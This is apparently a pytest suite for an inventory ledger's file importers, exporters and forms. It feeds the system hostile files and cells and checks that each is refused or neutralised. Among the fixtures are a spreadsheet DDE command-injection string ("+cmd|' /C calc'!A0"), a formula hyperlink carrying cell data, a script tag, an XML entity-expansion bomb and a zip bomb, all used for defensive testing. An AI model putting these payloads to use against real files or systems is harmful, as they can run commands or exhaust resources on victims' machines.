"""Hostile imports and forms: one parametrized case per kind of hostile input (ids
F01–F16: whole files, V01–V24: cells and rows), on SQLite and PostgreSQL.

A refused file or row names the code (and row, column, value) and commits nothing; accepted variants post.
"""

from __future__ import annotations

import csv as _csv
import io
import uuid
import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pytest
from pydantic import ValidationError
from sqlalchemy import func, select

from stockpile.adapters.files import exporters, importers
from stockpile.adapters.orm.auth import AuditEventRow
from stockpile.adapters.orm.ledger import MovementRow
from stockpile.domain.errors import FileRejected, OutOfStock, PermissionDenied
from stockpile.imports import ledger_files as imports
from stockpile.ledger import stock
from stockpile.schemas import IssueCmd, ReceiptCmd
from stockpile.trust import users
from tests.conftest import NOW

HEAD = "业务类型,库点编码,物资编码,批次号,数量,有效期至,发生时间,备注,单位,生产日期,行号"
GOOD = "入库,D-COUNTY,1020101,L1,10,2027-01-01,2026-05-31 10:00,,,,"


def csv(*rows: str, head: str = HEAD, enc: str = "utf-8") -> bytes:
    return ("\n".join([head, *rows]) + "\n").encode(enc)


def row(**kw: str) -> str:
    """GOOD with some columns replaced (by header field name)."""
    names = ["kind", "site", "item", "lot", "qty", "expiry", "at", "remark", "unit", "made", "id"]
    vals = dict(zip(names, GOOD.split(","), strict=True)) | kw
    return ",".join(vals[n] for n in names)


def xlsx(rows: list[list[object]], sheets: tuple[str, ...] = ("Import",), merge: str = "") -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheets[0]
    for r in rows:
        ws.append(r)
    if merge:
        ws.merge_cells(merge)
    for name in sheets[1:]:
        wb.create_sheet(name).append(["x"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


XHEAD = HEAD.split(",")[:7]
XGOOD: list[object] = ["入库", "D-COUNTY", "1020101", "L1", 10, "2027-01-01", "2026-05-31 10:00"]


def zip_with(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


BOMB_XML = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol2;</workbook>"""

# id → (file bytes, filename, expected): expected is ("file", code) | ("row", code, row, column, value)
#      | ("ok", accepted rows) | ("confirm", what)
FILES = {
    "F01-bom": (b"\xef\xbb\xbf" + csv(GOOD), "a.csv", ("ok", 1)),
    "F02-gbk": (csv(GOOD, enc="gbk"), "a.csv", ("confirm", "encoding_guessed_gb18030")),
    "F03-mojibake": (csv(row(remark="锟斤拷")), "a.csv", ("file", "mojibake")),
    "F03-latin-mojibake": (csv(row(remark="cafÃ©")), "a.csv", ("file", "mojibake")),
    "F04-utf16": (csv(GOOD, enc="utf-16"), "a.csv", ("ok", 1)),
    "F05-latin1": (
        b"kind,site_code,item_code,qty,occurred_at\nreceipt,D-COUNTY,caf\xe9,1,2026-05-31\n",
        "a.csv",
        ("file", "bad_encoding"),
    ),
    "F05-shift-jis": ("kind,site_code\nｱ\n".encode("shift_jis"), "a.csv", ("file", "bad_encoding")),
    "F05-random": (bytes(range(256)) * 4, "a.csv", ("file", "binary_file")),
    "F06-semicolon": (csv(GOOD.replace(",", ";"), head=HEAD.replace(",", ";")), "a.csv", ("ok", 1)),
    "F06-tab": (csv(GOOD.replace(",", "\t"), head=HEAD.replace(",", "\t")), "a.csv", ("ok", 1)),
    "F06-quoted-newline": (csv(row(remark='"line1\nline2"')), "a.csv", ("ok", 1)),
    "F06-ragged": (csv(GOOD + ",extra"), "a.csv", ("row", "ragged_row", 2, "", "12")),
    "F07-xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.xls", ("file", "xls_not_supported")),
    "F07-encrypted": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64 + "EncryptionInfo".encode("utf-16-le"),
        "a.xlsx",
        ("file", "xlsx_encrypted"),
    ),
    "F07-xlsm": (
        zip_with({"xl/workbook.xml": b"<workbook/>", "xl/vbaProject.bin": b"macro"}),
        "a.xlsm",
        ("file", "xlsm_not_supported"),
    ),
    "F08-binary-as-csv": (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "a.csv", ("file", "binary_file")),
    "F08-zip-not-xlsx": (zip_with({"a.txt": b"x"}), "a.csv", ("file", "not_xlsx")),
    "F08-stream-name": (csv(GOOD), "x.exe:$y.csv", ("ok", 1)),
    "F09-too-large": (b"a" * (10 * 1024 * 1024 + 1), "a.csv", ("file", "file_too_large")),
    "F10-zip-bomb": (
        zip_with({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"\0" * (5 * 1024 * 1024)}),
        "a.xlsx",
        ("file", "zip_bomb"),
    ),
    "F11-entity-bomb": (zip_with({"xl/workbook.xml": BOMB_XML}), "a.xlsx", ("file", "xml_forbidden")),
    "F12-extra-sheets": (xlsx([XHEAD, XGOOD], sheets=("Import", "Hidden")), "a.xlsx", ("ok", 1)),
    "F12-no-import-sheet": (xlsx([XHEAD, XGOOD], sheets=("A", "B")), "a.xlsx", ("file", "no_import_sheet")),
    "F12-header-not-row-1": (xlsx([[None] * 7, XHEAD, XGOOD]), "a.xlsx", ("file", "no_header")),
    "F13-merged-header": (xlsx([XHEAD, XGOOD], merge="A1:B1"), "a.xlsx", ("file", "merged_header")),
    "F14-data-after-empty": (
        csv(GOOD, ",,,,,,,,,,", row(lot="L2")),
        "a.csv",
        ("row", "data_after_empty_row", 4, "", ""),
    ),
    "F15-formula-qty": (
        xlsx([XHEAD, [*XGOOD[:4], "=A2*3", *XGOOD[5:]]]),
        "a.xlsx",
        ("row", "formula_not_value", 2, "数量", "=A2*3"),
    ),
    "V01-leading-zeros": (csv(row(item="00123")), "a.csv", ("row", "unknown_item", 2, "物资编码", "00123")),
    "V02-scientific": (
        csv(row(item="6.93217E+12")),
        "a.csv",
        ("row", "code_in_scientific_notation", 2, "物资编码", "6.93217E+12"),
    ),
    "V03-trim-nfkc-upper": (csv(row(site=" ｄ-county ")), "a.csv", ("ok", 1)),
    "V04-unknown-item": (
        csv(row(item="9999999")),
        "a.csv",
        ("row", "unknown_item", 2, "物资编码", "9999999"),
    ),
    "V04-unknown-depot": (
        csv(row(site="D-NOWHERE")),
        "a.csv",
        ("row", "unknown_site", 2, "库点编码", "D-NOWHERE"),
    ),
    "V04-unknown-unit": (csv(row(unit="carton")), "a.csv", ("row", "unknown_unit", 2, "单位", "carton")),
    "V04-transit-is-no-depot": (
        csv(row(site="TRANSIT")),
        "a.csv",
        ("row", "unknown_site", 2, "库点编码", "TRANSIT"),
    ),
    "V05-other-depot": (
        csv(row(site="D-TS01")),
        "a.csv",
        ("row", "permission_denied", 2, "库点编码", "D-TS01"),
    ),
    "V06-negative": (csv(row(qty="-5")), "a.csv", ("row", "qty_not_positive", 2, "数量", "-5")),
    "V06-zero": (csv(row(qty="0")), "a.csv", ("row", "qty_not_positive", 2, "数量", "0")),
    "V07-fraction": (csv(row(qty="1.5")), "a.csv", ("row", "qty_not_integer", 2, "数量", "1.5")),
    "V08-thousands": (csv(row(qty='"1,000"')), "a.csv", ("row", "use_plain_digits", 2, "数量", "1,000")),
    "V08-decimal-comma": (csv(row(qty='"1,5"')), "a.csv", ("row", "use_plain_digits", 2, "数量", "1,5")),
    "V09-fullwidth": (csv(row(qty="１０")), "a.csv", ("ok", 1)),
    "V10-words": (csv(row(qty="10 boxes")), "a.csv", ("row", "qty_not_integer", 2, "数量", "10 boxes")),
    "V10-exponent": (csv(row(qty="1e6")), "a.csv", ("row", "qty_not_integer", 2, "数量", "1e6")),
    "V10-power": (csv(row(qty="2**63")), "a.csv", ("row", "qty_not_integer", 2, "数量", "2**63")),
    "V10-too-large": (csv(row(qty="1000000001")), "a.csv", ("row", "qty_too_large", 2, "数量", "1000000001")),
    "V10-empty": (csv(row(qty="")), "a.csv", ("row", "required", 2, "数量", "")),
    "V10-nan": (csv(row(qty="NaN")), "a.csv", ("row", "qty_not_integer", 2, "数量", "NaN")),
    "V11-pack-unit": (csv(row(unit="箱")), "a.csv", ("ok", 1)),
    "V12-text-serial": (csv(row(expiry="45000")), "a.csv", ("row", "date_not_iso", 2, "有效期至", "45000")),
    "V12-two-digit-year": (
        csv(row(expiry="27-01-01")),
        "a.csv",
        ("row", "date_not_iso", 2, "有效期至", "27-01-01"),
    ),
    "V13-ambiguous": (
        csv(row(expiry="03/04/2027")),
        "a.csv",
        ("row", "date_not_iso", 2, "有效期至", "03/04/2027"),
    ),
    "V14-offset": (csv(row(at="2026-05-31T10:00+02:00")), "a.csv", ("ok", 1)),
    "V14-named-zone": (
        csv(row(at="2026-05-31 10:00 CST")),
        "a.csv",
        ("row", "datetime_not_iso", 2, "发生时间", "2026-05-31 10:00 CST"),
    ),
    "V15-future": (
        csv(row(at="2026-06-02 10:00")),
        "a.csv",
        ("row", "posting_in_future", 2, "发生时间", "2026-06-02 02:00:00+00:00"),
    ),
    "V16-expired-on-arrival": (
        csv(row(expiry="2026-05-01")),
        "a.csv",
        ("row", "expired_on_arrival", 2, "有效期至", "2026-05-01"),
    ),
    "V17-expiry-before-made": (
        csv(row(made="2027-06-01")),
        "a.csv",
        ("row", "expiry_before_manufacture", 2, "有效期至", "2027-01-01"),
    ),
    "V17-year-9999": (
        csv(row(expiry="9999-12-31")),
        "a.csv",
        ("row", "date_out_of_range", 2, "有效期至", "9999-12-31"),
    ),
    "V18-two-expiries": (
        csv(GOOD, row(expiry="2027-02-01")),
        "a.csv",
        ("row", "lot_two_expiries", 2, "有效期至", "2027-01-01"),
    ),
    "V19-duplicate-id": (
        csv(row(id="R1"), row(id="R1", lot="L2")),
        "a.csv",
        ("row", "duplicate_id", 2, "行号", "R1"),
    ),
    "V20-identical-rows": (csv(GOOD, GOOD), "a.csv", ("confirm", "identical_rows")),
    "V21-negative-part-way": (
        csv(
            GOOD,
            row(kind="出库", qty="6", at="2026-05-31 11:00"),
            row(kind="出库", qty="6", at="2026-05-31 12:00"),
        ),
        "a.csv",
        ("row", "out_of_stock", 4, "数量", "6"),
    ),
    "V22-formula-text-is-literal": (
        csv(row(remark='"=HYPERLINK(""http://x/?""&A1,""ok"")"')),
        "a.csv",
        ("ok", 1),
    ),
    "V23-script-text-is-literal": (csv(row(remark="<script>alert(1)</script>")), "a.csv", ("ok", 1)),
    "V24-control-in-code": (
        csv(row(lot="L\u202e1")),
        "a.csv",
        ("row", "invalid_code", 2, "批次号", "L\u202e1"),
    ),
    "V24-long-remark": (
        csv(row(remark="x" * 10_000)),
        "a.csv",
        ("row", "text_too_long", 2, "备注", "x" * 57 + "…"),
    ),
}


def movements(engine) -> int:
    with engine.connect() as c:
        return int(c.execute(select(func.count()).select_from(MovementRow)).scalar_one())


def run_import(uow, data: bytes, name: str, confirmed=frozenset()):
    table = importers.read_table(data, name)
    return imports.import_movements(table, "keeper1", uow, NOW, confirmed, name)


@pytest.mark.parametrize("case", sorted(FILES))
def test_hostile_file_or_cell(case, uow, world, engine):
    """Each hostile file or cell gets its code (with row, column, value); refused input commits nothing."""
    data, name, expected = FILES[case]
    before = movements(engine)
    if expected[0] == "file":
        with pytest.raises(FileRejected) as e:
            run_import(uow, data, name)
        assert e.value.code == expected[1]
        assert movements(engine) == before
        return
    report = run_import(uow, data, name)
    if expected[0] == "ok":
        assert report.ok and report.accepted == expected[1], report.errors
        assert movements(engine) > before
        return
    assert movements(engine) == before
    if expected[0] == "confirm":
        assert expected[1] in report.needs_confirmation
        assert run_import(uow, data, name, frozenset({expected[1]})).ok  # confirmed → posted
        return
    _, code, row_no, column, value = expected
    got = [(e.code, e.row, e.column, e.value) for e in report.errors]
    assert (code, row_no, column, value) in got, got


def test_v05_other_depot_row_is_audited_as_denied(uow, world, engine):
    """A row on a depot not assigned to the keeper → 'not permitted for depot D2' + authz_denied row."""
    report = run_import(uow, csv(row(site="D-TS01")), "a.csv")
    assert [e.params.get("site") for e in report.errors] == ["D-TS01"]
    with engine.connect() as c:
        [a] = c.execute(select(AuditEventRow).where(AuditEventRow.outcome == "authz_denied")).all()
    assert a.action == "import" and "D-TS01" in a.target + a.detail


def test_f09_too_many_rows_is_refused_with_the_cap():
    """More than 50 000 rows is refused by the reader with the cap named."""
    data = csv(*([GOOD] * 50_001))
    with pytest.raises(FileRejected) as e:
        importers.read_table(data, "a.csv")
    assert e.value.code == "too_many_rows" and e.value.params["cap"] == 50_000


def test_f15_v15_frozen_before_freeze_date(uow, world, engine):
    """A row dated before the freeze date (冻结日期) is refused as frozen; nothing committed."""
    users.set_freeze_date(uow, "admin", date(2026, 6, 1), NOW)
    report = run_import(uow, csv(GOOD), "a.csv")
    assert [e.code for e in report.errors] == ["frozen"] and movements(engine) == 0


def test_f16_same_file_twice_is_a_no_op(uow, world, engine):
    """The file's sha256 is the client id: the second import reports who imported it when."""
    data = csv(GOOD)
    assert run_import(uow, data, "a.csv").ok
    n = movements(engine)
    again = run_import(uow, data, "a.csv")
    assert again.already_imported and again.already_imported["actor"].upper() == "KEEPER1"
    assert movements(engine) == n


def test_v18_lot_with_other_expiry_in_the_database(uow, world, engine):
    """A lot number already stored with another expiry is refused."""
    assert run_import(uow, csv(GOOD), "a.csv").ok
    report = run_import(uow, csv(row(expiry="2027-03-01", at="2026-05-31 11:00")), "b.csv")
    assert [e.code for e in report.errors] == ["lot_expiry_conflict"]


V22 = [
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
]


def test_v22_exports_never_contain_formulas():
    """Exports (xlsx, csv) prefix dangerous strings with ', numbers stay numbers; no cell data_type 'f'."""
    df = pd.DataFrame({"name": V22, "qty": list(range(-3, len(V22) - 3))})
    wb = openpyxl.load_workbook(io.BytesIO(exporters.to_xlsx({"s": df}, {})))
    cells = [c for r in wb["s"].iter_rows(min_row=2) for c in r]
    assert all(c.data_type != "f" for c in cells)
    assert [str(c.value).replace("_x000D_", "\r") for c in cells[0::2]] == ["'" + v for v in V22]
    assert [c.value for c in cells[1::2]] == list(range(-3, len(V22) - 3))
    text = exporters.to_csv(df, {}).decode("utf-8-sig")
    back = list(_csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in back[1:]] == ["'" + v for v in V22]


# ---- forms: the service re-checks what the widget promised -------------------------------------------------
def _issue(world, qty, actor="keeper1", site=None, cid=None):
    return IssueCmd(
        client_id=cid or uuid.uuid4(),
        actor=actor,
        occurred_at=NOW,
        site_code=site or world.depot,
        item_code=world.water,
        qty=qty,
    )


def _stock(uow, world, qty=10):
    stock.record_receipt(
        ReceiptCmd(
            client_id=uuid.uuid4(),
            actor="keeper1",
            occurred_at=NOW,
            site_code=world.depot,
            item_code=world.water,
            lot_no="W1",
            qty=qty,
            expiry=date(2027, 1, 1),
        ),
        uow,
        NOW,
    )


def test_w01_double_submit_posts_once(uow, world, engine):
    """The same client id twice (double click, rerun) → one movement, the second says already posted."""
    _stock(uow, world)
    cmd = _issue(world, 3)
    first = stock.issue_stock(cmd, uow, NOW)
    again = stock.issue_stock(cmd, uow, NOW)
    assert again.replayed and again.posting_id == first.posting_id and movements(engine) == 2


def test_w02_stock_changed_since_render_is_rechecked(uow, world, engine):
    """The form showed 10, someone issued 8 meanwhile: the submit is refused with the current available."""
    _stock(uow, world)
    stock.issue_stock(_issue(world, 8), uow, NOW)
    with pytest.raises(OutOfStock) as e:
        stock.issue_stock(_issue(world, 5), uow, NOW)
    assert e.value.params["available"] == 2 and movements(engine) == 2


def test_w03_crafted_depot_is_denied_in_the_service(uow, world, engine):
    """Keeper of D1 sending D2 (URL or session state) → PermissionDenied + audit row, no movement."""
    with pytest.raises(PermissionDenied):
        stock.issue_stock(_issue(world, 1, site=world.point), uow, NOW)
    with engine.connect() as c:
        assert c.execute(select(func.count()).select_from(AuditEventRow)).scalar_one() == 1
    assert movements(engine) == 0


@pytest.mark.parametrize("qty", [0, -1, 10**9 + 1, 1.5])
def test_w04_qty_beyond_widget_limits_is_refused(qty, world):
    """The command model refuses what the widget should have (≤ 0, > 10^9, fractions)."""
    with pytest.raises(ValidationError):
        _issue(world, qty)


def test_w05_huge_paste_is_refused_with_a_length_message(world):
    """A 100 000-character remark is a validation error naming the limit; nothing is stored."""
    with pytest.raises(ValidationError) as e:
        IssueCmd(**(_issue(world, 1).model_dump() | {"remark": "x" * 100_000}))
    assert "1000" in str(e.value)
